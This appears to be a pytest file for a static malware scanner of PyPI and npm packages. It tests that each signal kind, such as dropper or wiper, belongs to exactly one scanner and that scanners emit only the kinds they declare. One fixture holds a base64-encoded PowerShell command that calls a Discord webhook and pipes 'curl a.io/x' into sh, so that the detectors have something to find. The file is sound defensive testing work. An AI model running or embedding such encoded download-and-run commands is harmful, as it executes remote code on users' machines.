"""The scanner records: every signal kind has one owner that describes it, and a scanner
emits only the kinds its record declares (checked by running them over every fixture)."""

from __future__ import annotations

import base64
import dataclasses
from collections import Counter
from collections.abc import Iterable, Iterator
from pathlib import Path

import pytest

from analyzer.detect.static.interface import (
    CODE_LANGS,
    KindInfo,
    Reads,
    ScanContext,
    Scanner,
    catalogue,
    text_check,
)
from analyzer.detect.static.scan import (
    ENGINE_KINDS,
    ENGINE_SHARES,
    KINDS,
    SCANNERS,
    scan_package,
)
from analyzer.detect.static.text import Lang, SourceFile
from analyzer.models import Ecosystem
from analyzer.signals import FileRole, SignalKind, StaticSignal
from tests.detect.test_static import CASES

DATA = Path(__file__).resolve().parents[1] / "data"
FOLDERS = sorted(
    p for root in ("packages", "corpus/pypi", "corpus/npm") for p in (DATA / root).iterdir()
    if p.is_dir()
)


def _folder(folder: Path) -> tuple[list[tuple[str, bytes]], Ecosystem]:
    files = [(str(p.relative_to(folder)), p.read_bytes())
             for p in sorted(folder.rglob("*")) if p.is_file()]
    npm = folder.name.startswith("npm-") or folder.parent.name == "npm"
    return files, Ecosystem.NPM if npm else Ecosystem.PYPI


# A short encoded PowerShell command: the PowerShell check reads what it decodes to with the
# network and download checks, so their kinds come out of it.
_COMMAND = "iwr https://discord.com/api/webhooks/1/t;curl a.io/x|sh"  # under BLOB_MIN_CHARS
_POWERSHELL = base64.b64encode(_COMMAND.encode("utf-16-le")).decode()
EXTRA = {"powershell command": [("p-1/p/a.py", f"os.system('pwsh -enc {_POWERSHELL}')".encode())]}


def _inputs() -> Iterator[tuple[str, list[tuple[str, bytes]], Ecosystem]]:
    for name, files in EXTRA.items():
        yield name, files, Ecosystem.PYPI
    for kind, cases in CASES.items():
        for which, case in zip(("positive", "benign"), cases, strict=True):
            files = [(p, b.encode() if isinstance(b, str) else b) for p, b in case.files.items()]
            yield f"{kind.value} {which}", files, case.ecosystem
    for folder in FOLDERS:
        yield (folder.name, *_folder(folder))


def _key(signal: StaticSignal) -> tuple[object, ...]:
    # The scan may append "(+N more in this file)" to the last signal it keeps of a kind.
    detail = signal.detail.rsplit(" (+", 1)[0]
    return (signal.kind, signal.path, signal.line, signal.excerpt, detail, signal.role)


class _Attribution:
    """Who emitted what. A signal found in decoded text passes up through the scanner
    that decoded it; it counts for the innermost scanner, the first to yield it."""

    def __init__(self) -> None:
        self.by_scanner: dict[str, set[SignalKind]] = {}
        self._claimed: dict[int, StaticSignal] = {}  # by identity; values keep ids alive

    def wrap(self, scanner: Scanner) -> Scanner:
        check = scanner.check

        def claimed(src: SourceFile, context: ScanContext) -> Iterator[StaticSignal]:
            for signal in check(src, context):
                if id(signal) not in self._claimed:
                    self._claimed[id(signal)] = signal
                    self.by_scanner.setdefault(scanner.name, set()).add(signal.kind)
                yield signal

        return dataclasses.replace(scanner, check=claimed)

    def engine_kinds(self, signals: Iterable[StaticSignal]) -> set[SignalKind]:
        """Kinds of the signals no scanner yielded: the scan's own."""
        theirs = {_key(s) for s in self._claimed.values()}
        return {s.kind for s in signals if _key(s) not in theirs}


@pytest.fixture(scope="module")
def attribution() -> tuple[_Attribution, set[SignalKind]]:
    seen = _Attribution()
    scanners = tuple(seen.wrap(s) for s in SCANNERS)
    engine: set[SignalKind] = set()
    for _name, files, ecosystem in _inputs():
        engine |= seen.engine_kinds(scan_package(files, ecosystem, scanners))
    return seen, engine


def test_every_kind_has_exactly_one_owner() -> None:
    owners = Counter(kind for s in SCANNERS for kind in s.kinds) + Counter(list(ENGINE_KINDS))
    assert {kind: owners[kind] for kind in SignalKind if owners[kind] != 1} == {}
    assert set(KINDS) == set(SignalKind)


def test_every_kind_describes_itself_in_one_line() -> None:
    for kind, info in KINDS.items():
        assert info.description and "\n" not in info.description, kind
    assert KINDS[SignalKind.EXEC_DECODED].strong and not KINDS[SignalKind.MINIFIED_CODE].strong


def test_shared_kinds_are_owned_by_another_scanner() -> None:
    for scanner in SCANNERS:
        for kind in scanner.shares:
            assert kind not in scanner.kinds and kind in KINDS, (scanner.name, kind)
    assert ENGINE_SHARES.isdisjoint(ENGINE_KINDS)


def test_scanner_names_are_unique() -> None:
    names = [s.name for s in SCANNERS]
    assert len(names) == len(set(names))


def test_a_scanner_emits_only_what_it_declares(
    attribution: tuple[_Attribution, set[SignalKind]],
) -> None:
    seen, engine = attribution
    declared = {s.name: s.emits for s in SCANNERS}
    undeclared = {name: sorted(k.value for k in kinds - declared[name])
                  for name, kinds in seen.by_scanner.items() if kinds - declared[name]}
    assert undeclared == {}
    assert engine <= set(ENGINE_KINDS) | ENGINE_SHARES, engine


def test_every_declared_kind_is_emitted_by_its_owner(
    attribution: tuple[_Attribution, set[SignalKind]],
) -> None:
    # A record that still lists a kind its check no longer emits is a stale declaration.
    seen, engine = attribution
    stale = {s.name: sorted(k.value for k in set(s.kinds) - seen.by_scanner.get(s.name, set()))
             for s in SCANNERS if set(s.kinds) - seen.by_scanner.get(s.name, set())}
    assert stale == {}
    assert set(ENGINE_KINDS) <= engine


def test_documentation_and_metadata_are_never_read_as_text() -> None:
    for role in (FileRole.DOCS, FileRole.METADATA):
        src = SourceFile("p/README.py", role, Lang.PYTHON, "x = 1")
        for reads in (Reads.SOURCE, Reads.DECODED, Reads.MANIFEST):
            assert [s.name for s in SCANNERS if s.handles(src, reads)] == []
    binary = SourceFile("docs/a.exe", FileRole.DOCS, Lang.OTHER, "")
    assert [s.name for s in SCANNERS if s.handles(binary, Reads.BINARY)] == ["binary"]


def _marker(src: SourceFile) -> Iterator[StaticSignal]:
    if "MARKER" in src.text:
        yield src.signal(SignalKind.DROPPER, src.text.index("MARKER"), "marker")


MARKER = Scanner(
    name="marker", check=text_check(_marker), reads=frozenset({Reads.SOURCE}),
    langs=frozenset({Lang.SHELL}), kinds={}, shares=frozenset({SignalKind.DROPPER}),
)


def test_a_scanner_in_the_list_runs_on_what_it_reads_and_nothing_else() -> None:
    files = [("p-1/run.sh", b"echo MARKER\n"), ("p-1/p/a.py", b"MARKER = 1\n"),
             ("p-1/README.md", b"MARKER\n")]
    found = scan_package(files, Ecosystem.PYPI, (*SCANNERS, MARKER))
    assert [(s.path, s.detail) for s in found if s.detail == "marker"] == [("p-1/run.sh", "marker")]
    assert not [s for s in scan_package(files, Ecosystem.PYPI) if s.detail == "marker"]


def test_a_kind_owned_twice_or_by_no_one_is_refused() -> None:
    with pytest.raises(ValueError, match="is declared by exec and exec"):
        catalogue((*SCANNERS, SCANNERS[3]), ENGINE_KINDS, ENGINE_SHARES)
    with pytest.raises(ValueError, match="setup-exec is declared by no scanner"):
        catalogue(SCANNERS[1:], ENGINE_KINDS, ENGINE_SHARES)
    with pytest.raises(ValueError, match="scan-truncated is declared by no scanner"):
        catalogue(SCANNERS, {}, ENGINE_SHARES)
    lonely = dataclasses.replace(MARKER, shares=frozenset({SignalKind.SCAN_TRUNCATED}))
    with pytest.raises(ValueError, match="shared by marker, is declared by no scanner"):
        catalogue((*SCANNERS, lonely), {}, ENGINE_SHARES)


@pytest.mark.parametrize(("changes", "problem"), [
    ({"kinds": {SignalKind.WIPER: KindInfo("", strong=True)}}, "wiper: no one-line description"),
    ({"kinds": {SignalKind.WIPER: KindInfo("a\nb", strong=True)}}, "no one-line description"),
    ({"kinds": {SignalKind.DROPPER: KindInfo("d", strong=True)}}, "both owns and shares"),
    ({"shares": frozenset()}, "declares no signal kind"),
    ({"reads": frozenset()}, "reads nothing"),
    ({"langs": frozenset()}, "reads nothing"),
])
def test_a_record_checks_itself_when_built(changes: dict[str, object], problem: str) -> None:
    with pytest.raises(ValueError, match=problem):
        dataclasses.replace(MARKER, **changes)  # type: ignore[arg-type]


def test_code_languages_leave_out_only_unknown_text() -> None:
    assert frozenset(Lang) - CODE_LANGS == {Lang.OTHER}
